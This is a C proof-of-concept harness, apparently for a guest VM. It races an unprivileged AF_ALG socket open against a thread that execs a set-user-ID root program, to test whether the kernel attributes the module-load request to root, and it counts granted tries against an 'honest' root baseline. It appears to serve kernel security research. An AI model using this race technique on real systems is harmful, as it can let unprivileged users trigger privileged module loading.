/*
 * Runs in the guest: a user's process asks for a module by its first thread, and another thread executes a set-user-ID
 * program, which takes over number and start time of the first.
 *
 *   takeover TRIES USEC GRANTED [asks]   as root: each try is a child of uid 65534 whose first thread opens an AF_ALG
 *                                        socket; another one executes GRANTED after up to USEC microseconds
 *   GRANTED [asks]                       set-user-ID root: becomes root as sudo does, counts itself in COUNT, and opens a
 *                                        socket of a family that no kernel has, if it is to ask on its own
 *   takeover honest TRIES                as root: opens an AF_ALG socket, and removes the module each time
 *
 * The last two print nothing; `takeover` prints how many tries were granted and how many sockets were opened by a user,
 * and `honest` how many were opened by root.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define NOBODY 65534
#define ALG 38
#define NO_FAMILY 12
#define COUNT "/run/takeover-count"
#define OPENED "/tmp/takeover-opened"

static char *granted[3];
static useconds_t delay;

static void count(const char *path)
{
	int file = open(path, O_WRONLY | O_APPEND | O_CREAT, 0666);
	if (write(file, "x", 1) != 1)
		_exit(3);
	close(file);
}

static long counted(const char *path)
{
	int file = open(path, O_RDONLY);
	long size = file < 0 ? 0 : lseek(file, 0, SEEK_END);
	close(file);
	return size;
}

static void *execute(void *nothing)
{
	usleep(delay);
	execv(granted[0], granted);
	return nothing;
}

static void attack(void)
{
	pthread_t other;

	if (setgroups(0, NULL) || setresgid(NOBODY, NOBODY, NOBODY) || setresuid(NOBODY, NOBODY, NOBODY) ||
	    pthread_create(&other, NULL, execute, NULL))
		_exit(2);
	if (socket(ALG, SOCK_SEQPACKET, 0) >= 0)
		count(OPENED);
	pause();
}

static int honest(int tries)
{
	int opened = 0;

	for (int i = 0; i < tries; i++) {
		int s = socket(ALG, SOCK_SEQPACKET, 0);
		opened += s >= 0;
		close(s);
		while (syscall(SYS_delete_module, "af_alg", O_NONBLOCK) && s >= 0)
			usleep(1000);
	}
	printf("%d\n", opened);
	return 0;
}

int main(int argc, char **argv)
{
	if (getuid() && !geteuid()) {
		if (setresuid(0, 0, 0))
			return 2;
		count(COUNT);
		if (argc > 1 && !strcmp(argv[1], "asks"))
			socket(NO_FAMILY, SOCK_DGRAM, 0);
		usleep(20000);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "honest"))
		return honest(atoi(argv[2]));
	if (argc < 4)
		return 2;
	unlink(COUNT);
	unlink(OPENED);
	granted[0] = argv[3];
	granted[1] = argc > 4 ? argv[4] : NULL;
	srandom(getpid());
	for (int i = 0; i < atoi(argv[1]); i++) {
		delay = random() % atoi(argv[2]);
		pid_t child = fork();
		if (!child)
			attack();
		waitpid(child, NULL, 0);
	}
	printf("%ld %ld\n", counted(COUNT), counted(OPENED));
	return 0;
}
